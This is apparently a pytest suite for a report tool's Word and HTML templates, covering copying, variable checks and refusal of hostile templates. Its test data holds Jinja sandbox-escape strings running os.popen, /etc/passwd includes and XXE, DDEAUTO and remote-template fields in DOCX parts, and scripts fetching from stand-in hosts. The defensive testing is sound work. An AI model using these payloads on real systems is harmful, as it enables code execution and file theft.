"""Templates an office edits: copied without loss, checked by paragraph, never able to reach outside, never stopping a month."""

from __future__ import annotations

import re
import shutil
import zipfile
from typing import TYPE_CHECKING

import docx
import pytest

from kongchuo_reports.domain.errors import SurroundingsError
from kongchuo_reports.domain.wording.papers.kinds import VARIABLES
from kongchuo_reports.publish.page import dashboard
from kongchuo_reports.publish.papers import letters
from kongchuo_reports.publish.templates.apart import letter_faults, page_faults, unused_variables
from kongchuo_reports.publish.templates.template_check import check_templates, template_findings
from kongchuo_reports.publish.templates.template_folder import (
    copy_templates,
    letter_folders,
    office_page_folders,
    packaged_templates,
)
from tests.support import results as month
from tests.test_cli import kongchuo

if TYPE_CHECKING:
    from pathlib import Path

POLICY = next(
    line
    for line in (packaged_templates() / "dashboard" / "page.html.j2").read_text("utf-8").splitlines()
    if "Content-Security-Policy" in line
)
KINDS = list(VARIABLES)


def paper(folder: Path, kind: str, *paragraphs: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    made = docx.Document()
    for text in paragraphs:
        made.add_paragraph(text)
    made.save(str(folder / f"{kind}.docx"))
    return folder / f"{kind}.docx"


def page(folder: Path, text: str, name: str = "page.html.j2") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    lead = f"{POLICY}\n" if name == "page.html.j2" and "<html" not in text else ""
    (folder / name).write_text(lead + text, "utf-8")
    return folder


# ── copying ──────────────────────────────────────────────────────────────────────────────────────
def test_all_templates_are_copied_and_are_in_order(tmp_path: Path) -> None:
    copied, kept = copy_templates(tmp_path / "模板")
    assert kept == []
    assert {f"letters/{kind}.docx" for kind in KINDS} < set(copied)
    assert "dashboard/page.html.j2" in copied
    assert not any(name.startswith("desk/") for name in copied)  # the desk's pages are the program's own
    assert check_templates(tmp_path / "模板")[0] == []


def test_a_file_that_is_there_is_never_written_over(tmp_path: Path) -> None:
    (tmp_path / "letters").mkdir()
    (tmp_path / "letters" / "零报告.docx").write_bytes(b"mine")
    copied, kept = copy_templates(tmp_path)
    assert kept == ["letters/零报告.docx"]
    assert "letters/零报告.docx" not in copied
    assert (tmp_path / "letters" / "零报告.docx").read_bytes() == b"mine"


def test_the_page_about_templates_comes_without_what_wrote_its_tables(tmp_path: Path) -> None:
    copy_templates(tmp_path)
    own, copy = packaged_templates() / "README.md", tmp_path / "README.md"
    told = copy.read_text("utf-8")
    assert "cog" not in told
    assert "<!--" not in told
    assert "\n\n## 督查通报.docx\n\n| 变量 | 内容 |\n" in told
    assert told.endswith("|\n")
    assert {*told.splitlines()} < {*own.read_text("utf-8").splitlines()}


def test_copying_onto_a_file_is_told(tmp_path: Path) -> None:
    (tmp_path / "模板").write_text("x", "utf-8")
    with pytest.raises(SurroundingsError, match="不能写入"):
        copy_templates(tmp_path / "模板")
    (tmp_path / "letters").write_text("x", "utf-8")
    with pytest.raises(SurroundingsError, match="不能写入"):
        copy_templates(tmp_path)
    assert (tmp_path / "letters").read_text("utf-8") == "x"


# ── checking letters ─────────────────────────────────────────────────────────────────────────────
@pytest.mark.parametrize("kind", KINDS)
def test_templates_of_the_program_pass_their_own_check(kind: str) -> None:
    path = packaged_templates() / "letters" / f"{kind}.docx"
    assert letter_faults(path, kind) == []
    assert unused_variables(path, kind) == []


def test_every_unknown_variable_is_told_with_its_paragraph_and_the_nearest_name(tmp_path: Path) -> None:
    path = paper(tmp_path, "一生一案", "学生{{ 姓明 }}同学", "就读于{{ 学笑 }}")
    told = [(fault.message, fault.remedy) for fault in letter_faults(path, "一生一案")]
    assert len(told) == 2
    assert "学生{{ 姓明 }}同学" in told[0][0]
    assert "是不是想写「姓名」" in told[0][1]
    assert "就读于{{ 学笑 }}" in told[1][0]


def test_an_unknown_name_inside_a_list_is_told(tmp_path: Path) -> None:
    path = paper(tmp_path, "一生一案", "抬头", "{%p for 次 in 劝返记录 %}", "日子：{{ 次.日起 }}", "{%p endfor %}")
    (fault,) = letter_faults(path, "一生一案")
    assert "日起" in fault.message
    assert "日子：" in fault.message
    assert "是不是想写「日期」" in fault.remedy


@pytest.mark.parametrize(
    "paragraphs",
    [
        ("抬头", "坏在这里 {{ 内容 "),
        ("抬头", "坏在这里 {% if 内容 %}没有结束"),
        ("抬头", "坏在这里 {{ 内容 | 没有的过滤 }}"),
        ("抬头", "坏在这里 {% endfor %}"),
    ],
)
def test_a_broken_mark_is_told_with_its_paragraph(tmp_path: Path, paragraphs: tuple[str, ...]) -> None:
    (fault,) = letter_faults(paper(tmp_path, "零报告", *paragraphs), "零报告")
    assert "坏在这里" in fault.message


def test_marks_that_tear_a_paragraph_apart_are_told(tmp_path: Path) -> None:
    made = docx.Document()
    made.add_paragraph("从这里{% if 草稿 %}开始")
    made.add_table(1, 1).cell(0, 0).text = "到这里{% endif %}为止"
    made.save(str(tmp_path / "督办通知单.docx"))
    (fault,) = letter_faults(tmp_path / "督办通知单.docx", "督办通知单")
    assert "不要拆开" in fault.remedy


@pytest.mark.parametrize("content", [b"", b"not a zip", b"PK\x03\x04 torn"])
def test_an_unreadable_file_is_told(tmp_path: Path, content: bytes) -> None:
    (tmp_path / "零报告.docx").write_bytes(content)
    (fault,) = letter_faults(tmp_path / "零报告.docx", "零报告")
    assert "不是可以打开的 Word 文件" in fault.message


def test_variables_left_out_are_told_as_a_note(tmp_path: Path) -> None:
    paper(tmp_path, "零报告", "{{ 内容 }}", "{{ 署名 }}")
    wrong, notes = check_templates(tmp_path)
    assert wrong == []
    assert notes == ["可用：零报告.docx（没有用到：标题、成文日期）"]


def test_a_name_that_is_no_kind_of_paper_is_told_with_the_kind_meant(tmp_path: Path) -> None:
    paper(tmp_path, "督查通报（新）", "x")
    (fault,) = check_templates(tmp_path)[0]
    assert "督查通报（新）.docx" in fault.message
    assert "「督查通报.docx」" in fault.remedy


def test_a_folder_without_templates_is_told(tmp_path: Path) -> None:
    for folder in (tmp_path, tmp_path / "没有"):
        with pytest.raises(SurroundingsError, match="没有模板"):
            check_templates(folder)


# ── hostile templates ────────────────────────────────────────────────────────────────────────────
HOSTILE = [
    "{{ ''.__class__.__mro__ }}",
    "{{ 内容.__class__.__init__.__globals__ }}",
    "{{ ''['__class__'] }}",
    "{{ ''|attr('__class__') }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ self.__init__ }}",
    "{{ '{0.__class__.__mro__}'.format(内容) }}",
    "{% include '/etc/passwd' %}",
    "{% import '/etc/passwd' as x %}",
    "{% extends '../../基础信息.xlsx' %}",
    "{% for one in range(999999999) %}x{% endfor %}",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_letter_is_refused_and_nothing_leaks(tmp_path: Path, text: str) -> None:
    workspace = tmp_path / "工作目录"
    paper(workspace / "模板", "零报告", text)
    assert letter_faults(workspace / "模板" / "零报告.docx", "零报告")
    letters.write(month.results(), tmp_path / "文书", letter_folders(workspace))
    with zipfile.ZipFile(tmp_path / "文书" / "约谈建议" / "零报告.docx") as package:
        told = package.read("word/document.xml").decode("utf-8")
    assert "本月按规则没有建议约谈的单位" in re.sub(r"<[^>]+>", "", told)
    assert "root:" not in told


@pytest.mark.parametrize(
    "text",
    [*HOSTILE, "{{ page.title.__class__.__mro__ }}", "{% include '../../秘密.txt' %}", "{% include page.title %}"],
)
def test_a_hostile_page_is_passed_over_and_nothing_leaks(tmp_path: Path, text: str) -> None:
    workspace = tmp_path / "工作目录"
    page(workspace / "模板" / "dashboard", text)
    (workspace / "秘密.txt").write_text("秘密", "utf-8")
    path = tmp_path / "page.html"
    dashboard.write(month.results(), path, [*office_page_folders(workspace), packaged_templates() / "dashboard"])
    told = path.read_text("utf-8")
    assert "秘密" not in told
    assert "root:" not in told
    assert "本月一览" in told


# ── the page ─────────────────────────────────────────────────────────────────────────────────────
def test_the_page_of_the_program_passes_its_own_check() -> None:
    assert page_faults(packaged_templates() / "dashboard") == []


def test_an_unknown_variable_of_the_page_is_told(tmp_path: Path) -> None:
    (fault,) = page_faults(page(tmp_path, "<h1>\n{{ page.titel }}"))
    assert "titel" in fault.message
    assert "是不是想写「title」" in fault.remedy


def test_a_broken_page_is_told_with_its_line(tmp_path: Path) -> None:
    (fault,) = page_faults(page(tmp_path, "<h1>\n{{ page.title }\n</h1>"))
    assert "page.title }" in fault.message


def test_a_page_that_is_no_text_is_told(tmp_path: Path) -> None:
    (tmp_path / "page.html.j2").write_bytes("题".encode("gbk"))
    (fault,) = page_faults(tmp_path)
    assert "UTF-8" in fault.remedy


def test_an_own_page_is_drawn_with_parts_of_the_program(tmp_path: Path) -> None:
    own = page(tmp_path / "模板" / "dashboard", '{% import "parts.html.j2" as parts %}本镇：{{ page.title }}')
    path = tmp_path / "page.html"
    dashboard.write(month.results(), path, [own, packaged_templates() / "dashboard"])
    assert "本镇：青石镇" in path.read_text("utf-8")


def test_a_page_that_fails_while_it_is_drawn_says_so_on_the_programs_own(tmp_path: Path) -> None:
    own = page(tmp_path / "模板", "{{ page.cards[99].label }}")
    path = tmp_path / "page.html"
    dashboard.write(month.results(), path, [own, packaged_templates() / "dashboard"])
    assert "本单位的网页模板用不了" in path.read_text("utf-8")


# ── in the month ─────────────────────────────────────────────────────────────────────────────────
@pytest.mark.parametrize("place", ["模板", "模板/letters"])
def test_both_places_of_own_templates_are_used_and_only_that_kind_changes(tmp_path: Path, place: str) -> None:
    workspace = tmp_path / "工作目录"
    paper(workspace / place, "零报告", "本镇自己的：{{ 内容 }}")
    own = letters.write(month.results(), tmp_path / "自己", letter_folders(workspace)).files
    plain = letters.write(month.results(), tmp_path / "原样", [packaged_templates() / "letters"]).files
    changed = [path.stem for path, other in zip(own, plain, strict=True) if path.read_bytes() != other.read_bytes()]
    assert set(changed) == {"零报告"}
    assert "本镇自己的：" in docx.Document(str(tmp_path / "自己" / "约谈建议" / "零报告.docx")).paragraphs[0].text


def test_templates_that_cannot_be_used_are_findings_of_the_month(tmp_path: Path) -> None:
    paper(tmp_path / "模板" / "letters", "零报告", "这一段{{ 内荣 }}")
    paper(tmp_path / "模板", "零报表", "x")
    page(tmp_path / "模板" / "dashboard", "{{ page.titel }}")
    rows = template_findings(tmp_path).rows
    assert rows[["code", "source_file"]].to_numpy().tolist() == [
        ["K003", "模板/letters/零报告.docx"],
        ["K004", "模板/零报表.docx"],
        ["K003", "模板/dashboard"],
    ]
    assert "这一段{{ 内荣 }}" in rows["message"][0]
    assert "「零报告.docx」" in rows["remedy"][1]


def test_a_month_without_own_templates_has_no_such_findings(tmp_path: Path) -> None:
    assert len(template_findings(tmp_path)) == 0


# ── the command ──────────────────────────────────────────────────────────────────────────────────
def test_the_commands_copy_and_check(tmp_path: Path) -> None:
    folder = tmp_path / "模板"
    assert kongchuo("templates", "copy", folder).returncode == 0
    done = kongchuo("templates", "check", folder)
    assert done.returncode == 0, done.stdout
    assert "没有发现问题" in done.stdout
    shutil.rmtree(folder / "dashboard")
    paper(folder / "letters", "零报告", "这一段{{ 内荣 }}")
    done = kongchuo("templates", "check", folder)
    assert done.returncode == 1
    assert "这一段{{ 内荣 }}" in done.stdout
    assert "是不是想写「内容」" in done.stdout
    assert kongchuo("templates", "check", tmp_path / "没有").returncode == 3


# ── marks as an input method types them ──────────────────────────────────────────────────────────
@pytest.mark.parametrize(
    "mark",
    [
        "｛｛姓名｝｝", "｛{姓名}｝", "{{姓名｝｝", "{ {姓名} }", "｛ ｛ 姓名 ｝ ｝", "{姓名}", "｛姓名｝", "{{姓名}", "｛％ if 姓名 ％｝",
        "{％ if 姓名 %}", "｛｛ 案件.姓名 ｝｝",
    ],
)  # fmt: skip
def test_what_only_looks_like_a_mark_is_told_with_its_paragraph(tmp_path: Path, mark: str) -> None:
    path = paper(tmp_path, "家访记录表", "今访{{姓名}}家", f"学生{mark}的情况")
    found = letter_faults(path, "家访记录表")
    assert found
    assert any(f"学生{mark}的情况" in fault.message for fault in found)


def test_full_width_braces_in_two_runs_of_a_header_are_told(tmp_path: Path) -> None:
    made = docx.Document()
    header = made.sections[0].header.paragraphs[0]
    for text in ("｛", "｛姓", "名｝｝"):
        header.add_run(text)
    made.save(str(tmp_path / "家访记录表.docx"))
    assert letter_faults(tmp_path / "家访记录表.docx", "家访记录表")


@pytest.mark.parametrize(
    "text", ["（{{姓名}}）", "达到 95%", "{注}", "集合｛甲，乙｝", "{{姓名}}{{姓名}}", "{{ 姓名 }}"]
)
def test_braces_that_are_no_mark_are_left_alone(tmp_path: Path, text: str) -> None:
    assert letter_faults(paper(tmp_path, "家访记录表", text), "家访记录表") == []


def test_full_width_braces_in_the_page_are_told(tmp_path: Path) -> None:
    found = page_faults(page(tmp_path, "<p>｛｛ page.title ｝｝</p>"))
    assert ["｛｛ page.title ｝｝" in fault.message for fault in found] == [True]


# ── what a template of another office may not do ─────────────────────────────────────────────────
def with_part(path: Path, name: str, content: str) -> Path:
    with zipfile.ZipFile(path) as old:
        parts = {entry: old.read(entry) for entry in old.namelist()}
    with zipfile.ZipFile(path, "w") as new:
        for entry, held in {**parts, name: content.encode()}.items():
            new.writestr(entry, held)
    return path


def field(instruction: str) -> str:
    return f'<w:r xmlns:w="w"><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r>'


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("word/header9.xml", field(' INCLUDEPICTURE "http://x/{{姓名}}" ')),
        ("word/header9.xml", field(" INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT c:\\x ")),
        ("word/footer9.xml", field(" DDEAUTO cmd x ")),
        ("word/footnotes.xml", '<w:fldSimple xmlns:w="w" w:instr=" LINK Excel.Sheet x "/>'),
        ("word/_rels/settings.xml.rels", '<R Type="attachedTemplate" Target="http://x/a.dotm" TargetMode="External"/>'),
        ("word/_rels/document.xml.rels", "<R Target='file:///x.png' TargetMode='External'/>"),
        ("word/vbaProject.bin", "x"),
        ("word/embeddings/oleObject1.bin", "x"),
        ("word/styles.xml", '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'),
    ],
)
def test_a_paper_that_fetches_or_runs_something_is_refused(tmp_path: Path, name: str, content: str) -> None:
    path = with_part(paper(tmp_path, "家访记录表", "{{姓名}}"), name, content)
    assert letter_faults(path, "家访记录表")


def test_a_part_without_end_is_no_word_file(tmp_path: Path) -> None:
    path = paper(tmp_path, "家访记录表", "{{姓名}}")
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as package:
        package.writestr("word/media/big.xml", b" " * (80 << 20))
    assert letter_faults(path, "家访记录表")


@pytest.mark.parametrize(
    "mark",
    [
        "{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}",
        "{{ 姓名.center(2000000000) }}", "{{ 姓名|center(2000000000) }}", "{{ '%2000000000d' % 1 }}",
        "{{ '{:>2000000000}'.format(1) }}", "{{ 姓名.ljust(99999999999) }}", "{{ 姓名 * 999999999 }}",
        "{% for a in 姓名 %}{% for b in 姓名 %}{% for c in 姓名 %}x{% endfor %}{% endfor %}{% endfor %}",
    ],
)  # fmt: skip
def test_work_without_end_is_refused_at_once(tmp_path: Path, mark: str) -> None:
    assert letter_faults(paper(tmp_path, "家访记录表", mark), "家访记录表")


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("default-src 'none'", "default-src *"),
        ('<meta http-equiv="Content-Security-Policy"', '<meta name="x"'),
        ("</body>", '<img src="https://x.example/a.png"></body>'),
        ("</body>", "<script src=//x.example/a.js></script></body>"),
        ("</body>", "<style>@import 'x'; a{background:url(http://x)}</style></body>"),
        ("</body>", "<script>fetch('http://x')</script></body>"),
        ("</body>", "{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}</body>"),
    ],
)
def test_a_page_that_reaches_the_network_or_weakens_its_protection_is_refused(
    tmp_path: Path, old: str, new: str
) -> None:
    text = (packaged_templates() / "dashboard" / "page.html.j2").read_text("utf-8")
    assert old in text
    assert page_faults(page(tmp_path, text)) == []
    assert page_faults(page(tmp_path, text.replace(old, new, 1)))
